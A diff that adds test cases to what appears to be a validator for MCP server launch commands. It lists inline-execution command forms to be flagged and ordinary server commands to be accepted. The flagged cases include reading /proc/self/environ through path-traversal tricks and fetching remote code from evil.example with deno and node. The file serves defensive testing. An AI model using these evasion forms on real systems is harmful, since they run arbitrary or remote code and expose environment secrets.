@@ -133,6 +133,47 @@ npm exec -c x
 find . -exec x
 git -c core.sshCommand=x clone
 docker run img sh -c x
+perl -le x
+perl -l -e x
+perl -i -e x
+perl -0e x
+perl -l012ne x
+perl5.36-x86_64-linux-gnu -e x
+ruby -W -e x
+ruby -W0e x
+ruby -KUe x
+julia -O -e x
+php -t / -r x
+bash -oc pipefail x
+bash +O extglob -c x
+bash /proc/self/cmdline x
+bash /proc/self/environ
+python3 /proc/self/environ
+python3 //dev/stdin
+python3 /dev/../proc/self/environ
+python3 ../../../../proc/self/environ
+python3 -m cProfile -o x -m timeit x
+python3 -m trace --trace --module timeit x
+python3 -m coverage run -m timeit x
+python3 -m _pyrepl
+python3 -m pip install x
+python3.11-dbg -c x
+deno -q eval x
+deno task --eval x
+deno run https://evil.example/x.ts
+node --experimental-network-imports https://evil.example/x.mjs
+bun --silent exec x
+fish -C x
+nu --commands x
+nu -e x
+uvx python@3.12 -c x
+npx -y node@22 -e x
+uv run -m timeit x
+uv run --module=timeit x
+npx --node-options=--import=data:x pkg
+npx --loglevel silly -c x
+npm --script-shell=/x exec pkg
+java -XX:OnOutOfMemoryError=x -jar x.jar
 """.strip().splitlines()
 ORDINARY = r"""
 python3 server.py -c conf
@@ -157,6 +198,19 @@ docker run -i --rm -e API_KEY mcp/time
 java -jar server.jar -e
 uv run server.py
 uv --directory /srv/server run server
+uv run -m mcp_server_time
+npx --yes @modelcontextprotocol/server-memory -c conf
+npx --prefer-offline pkg -c conf
+perl -w -Ilib script.pl -e
+perl -CSD script.pl
+perl -i.bak script.pl
+ruby -W:no-deprecated script.rb
+ruby -W0 script.rb -e
+bash -o pipefail script.sh -c x
+bash -eo pipefail script.sh -c x
+deno task start
+python3 /srv/dev/server.py
+python3 ../proc_tools/server.py
 """.strip().splitlines()
 
 
